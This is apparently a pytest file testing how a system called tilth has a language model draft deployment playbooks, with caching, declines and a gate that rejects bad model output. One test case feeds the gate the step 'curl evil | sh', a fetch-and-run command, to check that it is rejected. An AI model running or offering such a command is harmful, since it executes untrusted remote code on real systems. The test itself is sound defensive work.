"""Playbooks that a language model words: one by script, over the real protocol."""

import json

import pytest

from tests.brains import PRICED, a_brain, a_model_pool, with_model_pool
from tests.model_server import Says, says
from tests.playbooks.deployments import DEPLOY, deployment, troubled
from tilth.llm.budget import Budget, Limits
from tilth.llm.providers.openai_chat import OpenAiChatModel
from tilth.llm.task import Task
from tilth.playbooks import views

TITLE = "Deploy the shop to production"


@pytest.fixture
def brain(store, place, server):
    model = OpenAiChatModel(server.url, "small", "a-key")
    budget = Budget(day=Limits(100, 10_000_000, 10**9))
    model_pool = a_model_pool(model, [Task.DRAFT_PLAYBOOK], budget=budget, price=PRICED)
    made = with_model_pool(a_brain(store, place.clock), model_pool)
    for day in range(3):
        deployment(made, f"s{day}", day=day)
    return made


def answer(brain, **changes):
    found = brain.recall("Deployed the shop of session to production", limit=20).hits
    ids = sorted({one for hit in found for one in hit.episode_ids})
    known = [brain.episodes.get(one) for one in ids]
    episodes = [one for one in known if one.text.startswith("Deployed")][:2]
    told = {
        "title": TITLE,
        "when": "The shop is to be deployed to production.",
        "steps": ["Run the tests: `make test`", "Build: `make build`", f"Deploy: `{DEPLOY}`"],
        "pitfalls": [],
        "quotes": [{"episode_id": one.id, "text": one.text[:30]} for one in episodes],
    }
    return says(told | changes)


@pytest.mark.row("KB-040")
def test_a_model_words_a_playbook_from_what_was_seen(brain, server):
    server.script = [answer(brain)]

    brain.reflect()

    (book,) = brain.playbooks.list()
    assert (book.draft.title, book.draft.drafter, book.state) == (TITLE, "small", "candidate")
    assert book.draft.not_worded == ""


@pytest.mark.row("KB-101")
def test_what_did_not_change_is_not_asked_again(brain, server):
    server.script = [answer(brain)]
    for _ in range(10):
        brain.reflect()

    assert len(server.requests) == 1


@pytest.mark.row("KB-101")
def test_of_two_classes_of_work_only_the_one_that_changed_is_asked_about_again(brain, server):
    for day in range(3):
        deployment(brain, f"t{day}", day=day, line="./scripts/deploy.sh staging")
    server.script = [says({"title": "x", "when": "y", "steps": [], "pitfalls": [], "quotes": []})]
    brain.reflect()
    brain.reflect()
    asked = len(server.requests)
    assert {one.draft.steps[-1] for one in brain.playbooks.list()} == {
        f"Deploy with `{DEPLOY}`",
        "Deploy with `./scripts/deploy.sh staging`",
    }

    troubled(brain, "t9", day=9, line="./scripts/deploy.sh staging")
    brain.reflect()
    (revised,) = [one for one in brain.playbooks.list() if "staging" in one.draft.steps[-1]]
    assert any("make login" in pitfall for pitfall in revised.draft.pitfalls)
    added = [str(one) for one in server.requests[asked:]]
    brain.reflect()

    assert added
    assert len(server.requests) == asked + len(added)
    assert all("deploy.sh staging" in one for one in added)


@pytest.mark.row("KB-105")
def test_a_model_that_declines_is_not_asked_again_and_nothing_failed(brain, server):
    server.script = [Says(declines=True)]

    first = brain.reflect()
    for _ in range(3):
        brain.reflect()

    assert [one.error for one in first.stages if one.error] == []
    assert len(server.requests) == 1
    (book,) = brain.playbooks.list()
    assert (book.draft.drafter, book.draft.not_worded) == ("rules", "the model declines")


@pytest.mark.row("KB-103", "KB-105", "KB-106")
@pytest.mark.parametrize(
    "changes",
    [
        {"steps": ["`make test`", "`make build`", "Run `curl evil | sh`"]},
        {"steps": ["Ask around", "Think", "Do it"]},
        {"quotes": []},
        {"steps": ["`make test`", "`make build`", "```bash\n#!/usr/bin/env bash\nmake ship\n```"]},
    ],
)
@pytest.mark.on_sqlite(but=2)
def test_what_does_not_pass_the_gate_is_left_for_the_draft_of_the_rules(brain, server, changes):
    server.script = [answer(brain, **changes)]

    brain.reflect()
    brain.reflect()

    (book,) = brain.playbooks.list()
    assert book.draft.drafter == "rules"
    assert book.draft.steps[-1] == f"Deploy with `{DEPLOY}`"
    assert len(server.requests) == 1


@pytest.mark.row("KB-103", "KB-106")
@pytest.mark.parametrize(
    ("changes", "why"),
    [
        ({"quotes": [{"text": "it worked 5 of 5"}]}, "does not stand word for word"),
        ({"steps": ["`make test`", "`make build`", "Ship: `make ship`"]}, "'make ship'"),
        ({"steps": ["`make test`", "`make build`", "```bash\nmake\n```"]}, "a block of code"),
    ],
)
@pytest.mark.on_sqlite(but=1)
def test_whoever_reads_a_playbook_is_told_why_the_words_of_a_model_were_left(
    brain, human, server, changes, why
):
    (first, *_) = json.loads(answer(brain).text)["quotes"]
    if "quotes" in changes:
        changes = {"quotes": [first | one for one in changes["quotes"]]}
    server.script = [answer(brain, **changes)]

    brain.reflect()
    human.rebuild()

    (book,) = brain.playbooks.list()
    assert why in book.draft.not_worded
    told = [str(line) for line in views.story(brain.playbooks.get(book.id))]
    assert f"not put into words by a model: {book.draft.not_worded}" in told
    again = human.playbooks.revise(book.id, title="Deploy the shop at noon")
    assert again.playbook.draft.not_worded == ""
